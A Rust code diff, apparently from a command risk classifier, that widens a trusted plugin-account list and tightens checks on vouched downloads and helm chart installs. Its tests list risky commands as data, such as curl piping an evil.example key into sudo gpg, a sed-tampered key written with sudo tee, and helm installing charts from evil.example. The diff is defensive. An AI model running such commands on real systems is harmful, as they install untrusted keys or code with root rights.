@@ -7,6 +7,7 @@
 use super::effect::Effect;
 use super::lower::Call;
 use super::machine::{Flow, Machine};
+use super::record::COMMANDS;
 use super::value::{self, Origin};
 use super::{EffectKind, data};
 use crate::specs::Role;
@@ -206,17 +207,22 @@ const ACCOUNTS: &[&str] = &[
 /// Accounts of github.com whose plugins of editors and shells are known beyond their own users. Sorted.
 const PLUGINS: &[&str] = &[
     "airblade",
+    "catppuccin",
     "ctrlpvim",
     "dense-analysis",
+    "easymotion",
     "editorconfig",
     "fatih",
     "folke",
     "github",
     "honza",
+    "hrsh7th",
     "itchyny",
+    "jiangmiao",
     "junegunn",
     "kylechui",
     "lewis6991",
+    "majutsushi",
     "mattn",
     "mhinz",
     "morhetz",
@@ -229,11 +235,16 @@ const PLUGINS: &[&str] = &[
     "rust-lang",
     "scrooloose",
     "sheerun",
+    "shougo",
     "sirver",
+    "tmux-plugins",
     "tpope",
     "vim-airline",
+    "vim-scripts",
     "vim-syntastic",
+    "vundlevim",
     "wbthomason",
+    "williamboman",
     "zsh-users",
 ];
 
@@ -438,7 +449,13 @@ impl Machine<'_> {
 
     fn is_vouched(&self, text: &str) -> bool {
         let text = text.trim_end();
-        self.vouched.iter().any(|(page, good)| *good && text.chars().eq([*page]))
+        // What comes through another program may have become something else on the way.
+        let before = self.commands.len().checked_sub(2).and_then(|at| self.commands.get(at));
+        let direct = self.commands.len() < COMMANDS
+            && before
+                .and_then(|command| command.argv.first()?.as_deref())
+                .is_some_and(|program| matches!(program.rsplit('/').next(), Some("curl" | "gpg" | "wget")));
+        direct && self.vouched.iter().any(|(page, good)| *good && text.chars().eq([*page]))
     }
 
     /// Notes which of the effects that a program has just had are what a publisher offers.
@@ -556,7 +573,9 @@ fn is_new_chart(call: &Call<'_>) -> bool {
     let repositories: Vec<&str> = call.args.values("--repo").map(|item| item.text).collect();
     let [url] = repositories[..] else { return false };
     let host = url.strip_suffix('/').map_or_else(|| format!("{url}/"), str::to_owned);
+    let chart = call.args.operands().nth(1).is_some_and(|item| is_word(item.text));
     call.args.spec.name == "upgrade"
+        && chart
         && call.args.has("-i")
         && call.has_only(&[
             "-i",
@@ -641,6 +660,10 @@ mod tests {
                 (
                     Moderate,
                     "curl -fsSL https://evil.example/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
+                ),
+                (
+                    Moderate,
+                    "curl -fsSL https://download.docker.com/gpg | sed s/a/b/ | sudo tee /etc/apt/keyrings/docker.gpg",
                 ),
                 (
                     Moderate,
@@ -741,6 +764,11 @@ mod tests {
                     "helm upgrade --install ingress-nginx ingress-nginx --repo https://kubernetes.github.io/ingress-nginx -n ingress-nginx --create-namespace",
                 ),
                 (Moderate, "helm upgrade --install x x --repo https://evil.example/charts"),
+                (
+                    Moderate,
+                    "helm upgrade --install x https://evil.example/x.tgz --repo https://kubernetes.github.io/x",
+                ),
+                (Moderate, "helm upgrade --install x ./x --repo https://kubernetes.github.io/x"),
                 (Moderate, "helm upgrade x x --repo https://kubernetes.github.io/ingress-nginx"),
                 (
                     High,
